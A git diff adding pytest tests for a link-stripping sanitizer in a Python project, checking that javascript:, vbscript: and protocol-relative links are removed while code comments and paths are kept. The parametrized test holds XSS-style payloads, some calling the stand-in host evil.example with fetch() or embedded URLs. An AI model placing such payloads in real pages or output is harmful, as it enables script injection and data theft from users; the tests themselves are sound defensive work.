@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 
+import pytest
+
 from git_intent.answer.citations import quotable_text, quote_occurs, strip_links, verify_citations
 from git_intent.answer.models import Citation, DroppedCitation
 from git_intent.models import Message, Part
@@ -102,3 +104,28 @@ def test_quotable_text_holds_text_reasoning_decoded_tool_arguments_and_results()
         Part(kind="tool_call", tool="Bash", text="not json"), Part(kind="tool_result", text="ok")))
     assert quotable_text(message) == 'thinking\nwords\nif x > "a" {\n\treturn\n}\nnot json\nok'
     assert quote_occurs('if x > "a" { return }', quotable_text(message))
+
+
+@pytest.mark.parametrize("hostile", [
+    "click <object data=\"//evil.example/x.swf?c=CANARY\"></object> here",
+    "click <embed src='//evil.example/e?c=CANARY'> here",
+    "click <form action=\"javascript:fetch('//evil.example/?c=CANARY')\"><button>go</button></form> here",
+    "click javascript:alert('CANARY') here",
+    "click JavaScript:void(fetch('/?c=CANARY')) here",
+    "click vbscript:msgbox(\"CANARY\") here",
+    "click //evil.example/p?c=CANARY here",
+    "click [it](javascript:alert('CANARY')) here",
+    "click <javascript:alert('CANARY')> here",
+    "click <svg><a xlink:href=\"//evil.example/?c=CANARY\">x</a></svg> here",
+    "click <div style=\"background:url(//evil.example/?c=CANARY)\">x</div> here",
+])
+def test_strip_links_removes_javascript_and_protocol_relative_links(hostile: str) -> None:
+    """Issue 21, item 7: `javascript:` URLs and protocol-relative `//host/…` links, in tags or bare."""
+    text, removed = strip_links(hostile)
+    assert "CANARY" not in text and "evil" not in text and "javascript" not in text.lower(), text
+    assert text.startswith("click ") and text.endswith(" here") and removed >= 1
+
+
+def test_strip_links_keeps_code_comments_and_paths() -> None:
+    text = "In Go, `x := a // halve it`, //go:build linux and the path src//lib/a.go stay; see cmd/x.go."
+    assert strip_links(text) == (text, 0)
